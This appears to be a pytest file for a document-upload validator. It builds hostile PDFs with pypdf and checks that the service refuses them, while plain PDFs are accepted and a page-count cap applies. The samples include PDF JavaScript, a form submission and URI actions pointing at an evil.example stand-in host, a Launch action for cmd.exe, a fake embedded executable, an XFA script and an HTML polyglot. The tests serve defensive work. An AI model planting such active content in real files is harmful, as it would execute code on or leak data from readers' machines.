"""Uploaded PDFs with active content, or absurdly many pages, are refused with the reason.

Each hostile file is built with pypdf, the way an attacker would, and sent through the real
upload service: the refusal names what was found and leaves no file and no version.
"""

from __future__ import annotations

import io
import time

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from documents.models import DocumentVersion
from documents.samples import sample_pdf
from documents.validation import UploadRefused, check_file
from onboarding.services import CaseError
from tests.test_documents_uploads import intake_case, upload  # noqa: F401  (fixture)


def _write(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page_writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def _action(writer: PdfWriter, **entries: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action")})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
    return action


def document_javascript() -> bytes:
    # Document-level JavaScript: the /Names /JavaScript tree runs when the file opens.
    writer = _page_writer()
    js = _action(writer, S=NameObject("/JavaScript"), JS=TextStringObject("app.alert('hi');"))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), writer._add_object(js)])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
    return _write(writer)


def open_action_js_direct() -> bytes:
    writer = _page_writer()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        _action(writer, S=NameObject("/JavaScript"), JS=TextStringObject("this.exportDataObject({});"))
    )
    return _write(writer)


def submit_form_outside() -> bytes:
    writer = _page_writer()
    action = _action(
        writer,
        S=NameObject("/SubmitForm"),
        F=DictionaryObject(
            {NameObject("/FS"): NameObject("/URL"), NameObject("/F"): TextStringObject("https://evil.example/c")}
        ),
    )
    annot = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(100), NumberObject(100)]),
            NameObject("/A"): writer._add_object(action),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])
    return _write(writer)


def launch_action() -> bytes:
    writer = _page_writer()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        _action(writer, S=NameObject("/Launch"), F=TextStringObject("cmd.exe"))
    )
    return _write(writer)


def page_additional_action() -> bytes:
    writer = _page_writer()
    goto = _action(writer, S=NameObject("/URI"), URI=TextStringObject("https://evil.example/track"))
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(goto)})
    return _write(writer)


def embedded_file() -> bytes:
    writer = _page_writer()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really")
    return _write(writer)


def xfa_form_with_script() -> bytes:
    # An XFA form: its <script> sits inside a compressed XML stream, where neither a dictionary
    # key nor a look at the raw bytes shows it.
    writer = _page_writer()
    xml = DecodedStreamObject()
    xml.set_data(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
        b'<script contentType="application/x-javascript">app.launchURL("https://evil.example/x");</script>'
        b"</event></subform></template></xdp:xdp>"
    )
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xml.flate_encode())}
    )
    return _write(writer)


def html_polyglot() -> bytes:
    pdf = sample_pdf("polyglot")
    header, rest = pdf.split(b"\n", 1)
    return header + b"\n%<html><script>alert(document.domain)</script></html>\n" + rest


def many_pages(n: int) -> bytes:
    writer = PdfWriter()
    for _ in range(n):
        writer.add_blank_page(width=72, height=72)
    return _write(writer)


@pytest.mark.parametrize(
    ("build", "reason"),
    [
        (document_javascript, "JavaScript"),
        (open_action_js_direct, "JavaScript"),
        (submit_form_outside, "SubmitForm"),
        (launch_action, "Launch"),
        (page_additional_action, "/AA"),
        (embedded_file, "嵌入文件"),
        (xfa_form_with_script, "XFA"),
        (html_polyglot, "PDF/HTML"),
    ],
)
def test_active_content_is_refused_with_the_reason(world, intake_case, build, reason):  # noqa: F811
    data = build()
    assert data.startswith(b"%PDF-")
    with pytest.raises(CaseError) as refused:
        upload(intake_case, world.customer_x, data, "营业执照.pdf")
    assert reason in str(refused.value.problems or refused.value)
    assert not DocumentVersion.objects.exists()


def test_html_before_the_pdf_header_is_refused():
    with pytest.raises(UploadRefused):
        check_file(b"<html><body>hi</body></html>\n" + sample_pdf(), "x.pdf")


def test_plain_pdfs_and_a_go_to_open_action_are_accepted():
    assert check_file(sample_pdf(), "a.pdf").content_type == "application/pdf"
    writer = _page_writer()
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    assert check_file(_write(writer), "b.pdf").content_type == "application/pdf"
    writer = _page_writer()
    link = _action(writer, S=NameObject("/URI"), URI=TextStringObject("https://bank.example/"))
    annot = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(9), NumberObject(9)]),
            NameObject("/A"): link,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])
    assert check_file(_write(writer), "c.pdf").content_type == "application/pdf"  # an ordinary link


def test_page_count_is_capped_cheaply(settings):
    settings.DOCUMENT_MAX_PDF_PAGES = 50
    assert check_file(many_pages(50), "fifty.pdf")
    data = many_pages(600)
    started = time.perf_counter()
    with pytest.raises(UploadRefused, match="50 页"):
        check_file(data, "many.pdf")
    assert time.perf_counter() - started < 1.0


def test_five_hundred_pages_is_the_default_cap(settings):
    assert settings.DOCUMENT_MAX_PDF_PAGES == 500
